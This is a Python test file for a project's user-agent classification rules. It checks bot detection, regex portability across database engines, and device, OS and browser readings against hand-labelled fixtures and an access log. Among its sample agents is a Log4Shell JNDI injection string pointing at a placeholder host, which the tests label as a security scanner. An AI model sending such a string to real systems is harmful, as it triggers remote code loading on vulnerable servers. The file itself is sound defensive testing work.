"""What the rules read from user agents: by hand, of packages, and of a real log."""

import csv
import gzip
import json
import re
from collections import Counter
from collections.abc import Callable, Iterable
from importlib.resources import files
from itertools import pairwise
from pathlib import Path

import duckdb
import pytest
import ua_parser
from harness import ROOT, SHARED, Builder, needs, one_source, write_parquet
from regexes import BANNED, found_by
from tiers import TRIALS, some

from parity.engines import ALL

FIXTURES = ROOT / "tests" / "fixtures"
ACCESS_LOG = SHARED / "data" / "apache_log" / "access.log.gz"
FIELDS = ["bot_reason", "device_category", "os_name", "browser_name"]
DEVICE = FIELDS[1:]

Row = dict[str, str]
Reading = Callable[[str], dict[str, str | None]]

WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
IOS = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) "
    "AppleWebKit/605.1.15 (KHTML, like Gecko)"
)
WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"
ANDROID = "Mozilla/5.0 (Linux; Android 14; {})"
CHROME = WEBKIT + " Chrome/126.0.0.0 Safari/537.36"
CHROME_M = WEBKIT + " Chrome/126.0.0.0 Mobile Safari/537.36"
WEBVIEW = WEBKIT + " Version/4.0 Chrome/126.0.0.0 Mobile Safari/537.36"

PEOPLE = [
    f"{WIN} {CHROME}",
    f"{WIN} {CHROME} Edg/126.0.0.0",
    f"{WIN} {CHROME} OPR/112.0.0.0",
    f"{WIN} {CHROME} Vivaldi/6.8",
    f"{WIN} {CHROME} YaBrowser/24.6.0.0",
    f"{WIN.replace(')', '; rv:127.0)')} Gecko/20100101 Firefox/127.0",
    f"{MAC} AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    f"{MAC} {WEBKIT} Slack/4.38.125 Chrome/124.0.0.0 Electron/30.0 Safari/537.36",
    f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {CHROME}",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (X11; Linux) Gecko/20120101 Linux Mint/13 (Maya) Firefox/14.0",
    f"{IOS} Version/17.5 Mobile/15E148 Safari/604.1",
    f"{IOS} CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1",
    f"{IOS} FxiOS/127.0 Mobile/15E148 Safari/605.1.15",
    f"{IOS} GSA/321.0.6 Mobile/15E148 Safari/604.1",
    f"{IOS} Version/17.5 Mobile/15E148 DuckDuckGo/7 Safari/605.1.15",
    f"{IOS} Version/17.5 Mobile/15E148 Safari/604.1 (Ecosia ios@10.1.0.1834)",
    f"{IOS} Mobile/15E148 Instagram 334.0.0.28.93 (iPhone14,5; iOS 17_5; en_US)",
    f"{IOS} Mobile/15E148 [FBAN/FBIOS;FBAV/468.0.0.37;FBBV/604;FBDV/iPhone14,5]",
    f"{IOS} Mobile/15E148 Twitter for iPhone/10.46",
    f"{IOS} Mobile/15E148 [LinkedInApp]/9.29.7",
    f"{IOS} Mobile/15E148 [Pinterest/iOS]",
    f"{IOS} Mobile/15E148 Snapchat/12.93.0.38 (like Safari/8618.2.12)",
    f"{IOS} Mobile/15E148 musical_ly_35.1.0 JsSdk/2.0 BytedanceWebview/d8a21c6",
    f"{IOS} Mobile/15E148 MicroMessenger/8.0.49(0x1800312c) NetType/WIFI",
    f"{IOS} Mobile/15E148 Safari Line/14.9.0",
    f"{IOS} Mobile/15E148 KAKAOTALK 10.8.0",
    f"{IOS} Mobile/15E148 NAVER(inapp; search; 2000; 12.8.0; 14PRO)",
    f"{IOS} Version/17.5 Mobile/15E148 Safari/604.1 Flipboard/4.3.16",
    f"{ANDROID.format('SM-S921B')} {CHROME_M}",
    f"{ANDROID.format('K')} {WEBKIT} SamsungBrowser/25.0 Chrome/121.0 Mobile",
    f"{ANDROID.format('CUBOT NOTE 50')} {CHROME_M}",
    f"{ANDROID.format('CUBOT_X18_Plus Build/O11019')} {CHROME_M}",
    f"{ANDROID.format('GM Discovery II')} {CHROME_M}",
    f"{ANDROID.format('Pixel 8; wv')} {WEBVIEW} [FB_IAB/FB4A;FBAV/468.0.0.54;]",
    f"{ANDROID.format('Pixel 8; wv')} {WEBVIEW} Instagram 334.0.0.42.95 Android",
    f"{ANDROID.format('Pixel 8; wv')} {WEBVIEW} GSA/15.24.30.28.arm64",
    f"{ANDROID.format('Pixel 8; wv')} {WEBVIEW} trill_350103 AppName/musical_ly",
    f"{ANDROID.format('Pixel 8; wv')} {WEBVIEW} Trust/8.1",
    f"{ANDROID.format('Pixel 8')} {CHROME_M} (Ecosia android@126.0.6478.71)",
    f"{ANDROID.format('KFTRWI')} {WEBKIT} Silk/126.3.1 like Chrome/126.0 Safari/537",
    f"{ANDROID.format('22101316G')} {WEBKIT} XiaoMi/MiuiBrowser/14.15 Mobile",
    "Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0",
    "Mozilla/5.0 (Mobile; Nokia 8110 4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 SamsungBrowser/5.0",
    "Mozilla/5.0 (PlayStation; PlayStation 5/6.00) AppleWebKit/605.1.15 Safari/605",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727)",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
    "Mozilla/5.0 (compatible; Konqueror/4.14; Linux) KHTML/4.14.10 (like Gecko)",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80; U; en) Presto/2.5.25 Version/10.54",
    "Mozilla/5.0 (BB10; Touch) AppleWebKit/537.35+ Version/10.3.2 Mobile Safari/537",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240505.005)",
    "Acme/412 CFNetwork/1496.0.7 Darwin/23.5.0",
    "okhttp/4.12.0",
    "Maui Browser",
    # A model's name says what a phone is, not who holds it.
    f"{ANDROID.format('M bot 61')} {CHROME_M}",
    f"{ANDROID.format('Acme Spider X2 Build/RP1A.200720.011; wv')} {WEBVIEW}",
    f"{ANDROID.format('en; Spider X2 Build/RP1A.200720.011')} {CHROME_M}",
    f"{ANDROID.format('HarmonyOS; BOT-L29; HMSCore 6.1')} {CHROME_M}",
    f"Mozilla/5.0 (Linux; HarmonyOS; BOT-L29) {CHROME_M}",
    f"Mozilla/5.0 (Linux; Android; Spider X2) {CHROME_M}",
    f"Mozilla/5.0 (Linux; U; Android 4.2.2; en-us; R_BOT Build/JDQ39) {CHROME_M}",
    # Readers and players that run on one's own machine; what fetches there is a person.
    "Reeder/5.4 CFNetwork/1496.0.7 Darwin/23.5.0",
    f"{MAC} AppleWebKit/605.1.15 (KHTML, like Gecko) NetNewsWire/6.1",
    "AcmePodcasts/2.1 (Android 13; SM-A546B) ExoPlayerLib/2.18.2",
    "AcmeRadio/3 (https://radio.example)",
    "AcmeListen/2.0 iOS/17.1 (https://listen.example)",
    "Acme Downloader/29 CFNetwork/1390 Darwin/22.0.0",
    "WhatsApp/2.18.65 Android/8.0 Device/Acme-A1",
    "iPhone14,5",
    "smarttv_AFTKM_Build_0017",
]

BOTS = {
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": (
        "search_crawler"
    ),
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)": (
        "search_crawler"
    ),
    "Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)": (
        "search_crawler"
    ),
    "Mozilla/5.0 (compatible; Baiduspider/2.0)": "search_crawler",
    "Mozilla/5.0 (compatible; Yahoo! Slurp)": "search_crawler",
    f"{WIN} {CHROME}; 360Spider": "search_crawler",
    "Feedfetcher-Google; (+http://www.google.com/feedfetcher.html)": "search_crawler",
    f"{WEBKIT}; compatible; GPTBot/1.2; +https://openai.com/gptbot": "ai_crawler",
    "Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)": "ai_crawler",
    "CCBot/2.0 (https://commoncrawl.org/faq/)": "ai_crawler",
    "Mozilla/5.0 (compatible; Bytespider; spider-feedback@bytedance.com)": (
        "ai_crawler"
    ),
    f"{MAC} {WEBKIT} Version/17.4 Safari/605.1.15 (Applebot-Extended/0.1)": (
        "ai_crawler"
    ),
    "facebookexternalhit/1.1": "link_preview",
    "WhatsApp/2.23.20.0": "link_preview",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)": "link_preview",
    "TelegramBot (like TwitterBot)": "link_preview",
    "Twitterbot/1.0": "link_preview",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)": (
        "link_preview"
    ),
    "Mozilla/5.0 (compatible; Pinterestbot/1.0)": "link_preview",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)": (
        "seo_crawler"
    ),
    "Mozilla/5.0 (compatible; SemrushBot/7~bl)": "seo_crawler",
    "Screaming Frog SEO Spider/20.1": "seo_crawler",
    "Mediapartners-Google": "ad_crawler",
    "AdsBot-Google (+http://www.google.com/adsbot.html)": "ad_crawler",
    "ia_archiver": "archive_crawler",
    "Mozilla/5.0 (compatible; archive.org_bot)": "archive_crawler",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)": "monitoring",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)": (
        "monitoring"
    ),
    f"{MAC} {CHROME} Chrome-Lighthouse": "monitoring",
    "ELB-HealthChecker/2.0": "monitoring",
    "Mozilla/5.0 zgrab/0.x": "security_scanner",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)": (
        "security_scanner"
    ),
    "Feedbin feed-id:1234 - 7 subscribers": "feed_reader",
    f"Mozilla/5.0 (X11; Linux x86_64) {CHROME}; Devin/1.0; +devin.ai": "ai_crawler",
    f"{MAC} {CHROME} browser-use/0.7": "ai_crawler",
    "Agent/AcmeShopsForMe": "ai_crawler",
    f"{ANDROID.format('AcmeBot/1.0')} {CHROME_M}": "declared_bot",
    f"{WIN} AppleWebKit/537.36 (KHTML, like Gecko; compatible; Ac/1)": "declared_bot",
    "${jndi:ldap://host.example/a}": "security_scanner",
    "AcmeTalk/1.0; Please visit: acme": "declared_contact",
    f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} HeadlessChrome/126.0 Safari/537": (
        "headless_browser"
    ),
    "Mozilla/5.0 (Unknown; Linux) AppleWebKit/538.1 PhantomJS/2.1.1": (
        "headless_browser"
    ),
    "curl/8.5.0": "http_library",
    "Wget/1.21.4 (linux-gnu)": "http_library",
    "python-requests/2.32.3": "http_library",
    "Python/3.11 aiohttp/3.9.5": "http_library",
    "Go-http-client/2.0": "http_library",
    "Java/17.0.9": "http_library",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)": "http_library",
    "axios/1.7.2": "http_library",
    "libwww-perl/6.72": "http_library",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)": "http_library",
    "Scrapy/2.11 (+https://scrapy.org)": "http_library",
    "AcmeBot/1.0": "declared_bot",
    "acme-bot": "declared_bot",
    "Mozilla/5.0 (compatible; AcmeCrawler/2.0)": "declared_bot",
    f"{ANDROID.format('CUBOT X50')} {CHROME_M} (compatible; AcmeBot/1.0)": (
        "declared_bot"
    ),
    f"{WIN} {CHROME} (+https://example.com/about)": "declared_contact",
    "Acme 1.0 (ops@example.com)": "declared_contact",
    "acme-services.com": "declared_contact",
    "Mozilla/5.0 (compatible; Acme/1.0)": "not_a_browser",
    "Mozilla/5.0": "not_a_browser",
    "AcmeSync/1.0": "not_a_browser",
    "-": "missing_agent",
}


def read(path: Path) -> list[Row]:
    """Rows of a CSV file."""
    with path.open(newline="") as file:
        return list(csv.DictReader(file, strict=True))


RULES = read(ROOT / "seeds" / "rules" / "user_agent_rules.csv")
# Written by reading each user agent, not by running the rules.
READ_BY_HAND = read(FIXTURES / "user_agents.csv")
LOGGED = read(FIXTURES / "access_log_user_agents.csv")


def crawlers() -> list[str]:
    """Example agents of the package crawler-user-agents."""
    text = (files("crawleruseragents") / "crawler-user-agents.json").read_text()
    return [agent for crawler in json.loads(text) for agent in crawler["instances"]]


def browsers() -> dict[str, Row]:
    """Agents that the package fake-useragent collected from people, and their devices.

    ua-parser brings rules without agents, so it says of these that none is a spider.
    """
    lines = (files("fake_useragent") / "data" / "browsers.jsonl").read_text()
    rows = [json.loads(line) for line in lines.splitlines()]
    parsed = {row["useragent"]: ua_parser.parse(row["useragent"]) for row in rows}
    return {
        row["useragent"]: row
        for row in rows
        if (found := parsed[row["useragent"]]).user_agent
        and not (found.device and found.device.family == "Spider")
    }


@pytest.fixture(scope="module")
def reading(build: Builder, tmp_path_factory: pytest.TempPathFactory) -> Reading:
    """What the project reads from any agent of these tests."""
    agents = {*PEOPLE, *BOTS, *crawlers(), *browsers()}
    agents |= {row["user_agent"] for row in [*READ_BY_HAND, *LOGGED]}
    row = {"visitor_id": "v", "event_name": "page_view", "occurred_at": "2026-01-01"}
    path = write_parquet(
        tmp_path_factory.mktemp("agents") / "events.parquet",
        [row | {"user_agent": agent} for agent in sorted(agents)],
    )
    made = build(
        one_source(path, [*row, "user_agent"]), select="+int_user_agents__classified"
    )
    assert made.is_green, made.said
    rows = made.rows(
        f"select user_agent, {', '.join(FIELDS)} from int_user_agents__classified"
    )
    found = {agent: dict(zip(FIELDS, told, strict=True)) for agent, *told in rows}
    # Staging trims, and takes a word for nothing as none.
    return lambda agent: found.get(agent.strip(), dict.fromkeys(FIELDS))


def test_rules_are_ordered_and_named_once() -> None:
    """Within a field, no priority, id or pattern twice; no stray spaces."""
    assert list(RULES[0]) == ["field", "priority", "rule_id", "pattern", "value"]
    assert list(dict.fromkeys(row["field"] for row in RULES)) == FIELDS
    for column in ["priority", "rule_id", "pattern"]:
        assert len({(row["field"], row[column]) for row in RULES}) == len(RULES)
    for one, next_one in pairwise(RULES):
        if one["field"] == next_one["field"]:
            assert int(one["priority"]) < int(next_one["priority"]), next_one
    for row in RULES:
        assert all(value == value.strip() for value in row.values()), row
        assert all(row[column] for column in row if column != "value"), row
        # A bot's rule without a value says who is none.
        assert row["value"] or row["field"] == "bot_reason", row
        assert "'" not in row["value"] + row["pattern"], row
        if row["field"] in ("bot_reason", "device_category") and row["value"]:
            assert re.fullmatch(r"[a-z]+(_[a-z]+)*", row["value"]), row


@pytest.mark.parametrize("row", RULES, ids=lambda row: str(row["rule_id"]))
def test_patterns_are_portable(row: Row) -> None:
    """They compile here and in DuckDB and use nothing that engines read apart."""
    pattern = row["pattern"]
    assert BANNED.search(pattern) is None
    assert "||" not in pattern
    assert not pattern.endswith("|")
    assert pattern == pattern.lower()
    assert re.search(pattern, "") is None
    (found,) = duckdb.execute("select regexp_matches('', ?)", [pattern]).fetchall()
    assert found == (False,)


@pytest.mark.parametrize(
    "text",
    [r"(?i)bot", r"(?=a)", r"\bbot", r"a*?", r"a++", r"(a)\1", r"[[:alpha:]]", r"\."],
)
def test_the_portability_check_sees_what_it_bans(text: str) -> None:
    """The guard itself works."""
    assert BANNED.search(text) is not None


# As the model has it.
MODEL = r"(android [0-9.]+; )([a-z]{2}[-_][a-z]{2} ?; )?[^;)/]*( build/|[;)])"


def first_rule(field: str, agent: str) -> str | None:
    """The id of the rule that decides, by Python's regular expressions."""
    text = agent.lower()
    if field == "bot_reason":
        text = re.sub(MODEL, r"\1\3", text)
    return next(
        (
            row["rule_id"]
            for row in RULES
            if row["field"] == field and re.search(row["pattern"], text)
        ),
        None,
    )


def test_every_rule_decides_some_agent() -> None:
    """One that an earlier rule always forestalls does nothing."""
    people = [row["user_agent"] for row in READ_BY_HAND]
    decided = {(field, first_rule(field, a)) for field in DEVICE for a in people}
    decided |= {
        ("bot_reason", first_rule("bot_reason", agent)) for agent in [*BOTS, *PEOPLE]
    }
    rules = [(row["field"], row["rule_id"]) for row in RULES]
    assert [rule for rule in rules if rule not in decided] == []


# Java's expressions are asked by `make test-all` alone.
@pytest.mark.parametrize(
    "engine", ["postgres", pytest.param("spark", marks=pytest.mark.long)]
)
def test_every_engine_finds_each_pattern_in_the_same_agents(
    engine: str, tmp_path: Path
) -> None:
    """RE2, Postgres and Java read them alike, and so does Python."""
    if reason := ALL[engine].missing():
        pytest.skip(reason)
    agents = [*PEOPLE, *BOTS, *(row["user_agent"] for row in READ_BY_HAND)]
    agents += some(crawlers(), TRIALS.crawlers)
    texts = [agent.lower() for agent in agents]
    patterns = [row["pattern"] for row in RULES]
    expected = {
        (place, nth)
        for place, pattern in enumerate(patterns)
        for nth, text in enumerate(texts)
        if re.search(pattern, text)
    }
    assert found_by(engine, tmp_path, patterns, texts) == expected


@pytest.mark.parametrize("agent", PEOPLE)
def test_people_are_not_bots(agent: str, reading: Reading) -> None:
    """Browsers, in-app browsers and app libraries pass."""
    assert reading(agent)["bot_reason"] is None


@pytest.mark.parametrize(("agent", "reason"), BOTS.items())
def test_bots_are_caught(agent: str, reason: str, reading: Reading) -> None:
    """Bots are caught, and for the right reason."""
    assert reading(agent)["bot_reason"] == reason


@pytest.mark.parametrize("row", READ_BY_HAND, ids=lambda row: row["user_agent"][-60:])
def test_devices_are_read_as_a_person_reads_them(row: Row, reading: Reading) -> None:
    """Device, system and browser of browsers, apps, televisions and consoles."""
    told = reading(row["user_agent"])
    assert told["bot_reason"] is None
    assert {name: told[name] or "" for name in DEVICE} == {n: row[n] for n in DEVICE}


def test_nearly_all_known_crawlers_are_caught(reading: Reading) -> None:
    """Of the examples in the package crawler-user-agents."""
    agents = crawlers()
    missed = [agent for agent in agents if not reading(agent)["bot_reason"]]
    print(f"{len(missed)} of {len(agents)} missed:", *missed, sep="\n")
    assert len(agents) > 2_000
    assert len(missed) / len(agents) <= 0.03


def test_hardly_any_browser_is_called_a_bot(reading: Reading) -> None:
    """Of those that people were seen to use."""
    agents = browsers()
    called = [agent for agent in agents if reading(agent)["bot_reason"]]
    assert len(agents) > 800
    assert len(called) / len(agents) <= 0.005, called


# How fake-useragent calls what the rules call by another name.
CALLED = {
    "Mac OS X": "macOS",
    "Ubuntu": "Linux",
    "Chrome OS": "ChromeOS",
    "Mobile Safari": "Safari",
    "Mobile Safari UI/WKWebView": "iOS WebView",
    "Chrome Mobile": "Chrome",
    "Chrome Mobile iOS": "Chrome",
    "Firefox Mobile": "Firefox",
    "Firefox iOS": "Firefox",
    "Edge Mobile": "Edge",
    "Opera Mobile": "Opera",
    "DuckDuckGo Mobile": "DuckDuckGo",
    "Google": "Google App",
    "Amazon Silk": "Silk",
    "Twitter": "X",
}


@pytest.mark.parametrize(
    ("field", "column"),
    [("device_category", "type"), ("os_name", "os"), ("browser_name", "browser")],
)
def test_devices_agree_with_those_that_others_read(
    field: str, column: str, reading: Reading
) -> None:
    """In at least 98 of 100 agents; the rest is a matter of names."""
    differs = [
        (row[column], reading(agent)[field], agent)
        for agent, row in browsers().items()
        if reading(agent)[field] != CALLED.get(row[column], row[column])
    ]
    print(*differs, sep="\n")
    assert len(differs) / len(browsers()) <= 0.02


def requests() -> Iterable[str]:
    """The user agent of each request in the log."""
    with gzip.open(ACCESS_LOG, "rt", errors="replace") as lines:
        for line in lines:
            if agent := re.search(r'"([^"]*)"$', line.rstrip()):
                yield agent[1]


@needs(ACCESS_LOG)
def test_the_table_holds_the_60_most_frequent_agents_of_the_log() -> None:
    """So that what is easy was not picked."""
    counted = sorted(Counter(requests()).items(), key=lambda pair: (-pair[1], pair[0]))
    assert {row["user_agent"] for row in LOGGED} == {agent for agent, _ in counted[:60]}
    assert len(LOGGED) == 60


@pytest.mark.parametrize("row", LOGGED, ids=lambda row: row["user_agent"][-60:])
def test_agents_of_a_log_are_read_as_a_person_reads_them(
    row: Row, reading: Reading
) -> None:
    """Whether it is a bot, and which device it is or poses as."""
    told = reading(row["user_agent"])
    assert (told["bot_reason"] is not None) == (row["is_bot"] == "true")
    assert {name: told[name] or "" for name in DEVICE} == {n: row[n] for n in DEVICE}
